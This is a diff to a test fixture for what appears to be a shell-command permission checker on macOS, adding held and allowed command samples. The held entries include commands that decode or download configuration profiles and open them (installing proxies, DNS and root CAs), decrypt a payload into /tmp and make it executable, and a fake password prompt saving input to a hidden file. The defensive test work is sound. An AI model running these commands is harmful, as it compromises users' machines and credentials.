@@ -15,7 +15,12 @@ lines. Each family is one class:
   &``): disguised as a file no one runs (asked); the socket itself used by docker or curl passes;
 - a fake password prompt: what ``read -s`` took written to a file (``read -s -p "Password:" pw; echo
   "$pw" > ~/.hidden/p``; blocked outside the project, asked inside it); the check with ``dscl .
-  -authonly`` was held already; a token read silently and sent in a header passes.
+  -authonly`` was held already; a token read silently and sent in a header passes;
+- a configuration profile written into a temporary place, Downloads or the Desktop (``echo ... |
+  base64 -d > /tmp/p.mobileconfig``, ``curl -o``): one ``open`` installs proxies, DNS and root CAs
+  (asked; ``profiles install`` itself was blocked already); the project's own profiles pass;
+- an embedded payload deciphered into ``/tmp`` and made executable (``openssl enc -d ... -out /tmp/x
+  && chmod +x /tmp/x``): held already by download-and-run, kept here as variants.
 """
 
 HELD: dict[str, list[str]] = {
@@ -52,6 +57,17 @@ HELD: dict[str, list[str]] = {
         'read -s -p "Vault password: " p; echo "$p" > .vault_pass',
         'read -s -p "Password:" pw; dscl . -authonly "$USER" "$pw"',
     ],
+    "configuration profile written": [
+        "echo TUlJQ0lEQ0NBYmVn | base64 -d > /tmp/p.mobileconfig",
+        "echo TUlJQ0lE | base64 --decode > ~/Downloads/S.mobileconfig && open ~/Downloads/S.mobileconfig",
+        "base64 -D -i p.b64 -o /private/tmp/vpn.mobileconfig",
+        "curl -sL -o /var/tmp/wifi.mobileconfig https://mdm.example.net/p",
+    ],
+    "payload deciphered and made executable": [
+        "openssl enc -d -aes-256-cbc -in payload.bin -out /tmp/x && chmod +x /tmp/x",
+        "openssl aes-256-cbc -d -in blob -out /tmp/.u -k s3cret; chmod 755 /tmp/.u",
+        "openssl enc -d -base64 -in blob.txt -out /private/tmp/agent; chmod +x /private/tmp/agent",
+    ],
 }
 
 ALLOWED: list[str] = [
@@ -76,4 +92,8 @@ ALLOWED: list[str] = [
     'read -p "Name: " name; echo "$name" > name.txt',
     'read -s -p "Token: " t; curl -H "Authorization: Bearer $t" https://api.github.com/user',
     'read -s -p "Password: " pw; echo "$pw" > /dev/null',
+    "cp build/Dev.mobileconfig dist/Dev.mobileconfig",
+    "security cms -D -i ~/Downloads/p.mobileconfig",
+    "profiles show -type configuration",
+    "openssl enc -d -aes-256-cbc -in backup.tar.enc -out backup.tar",
 ]
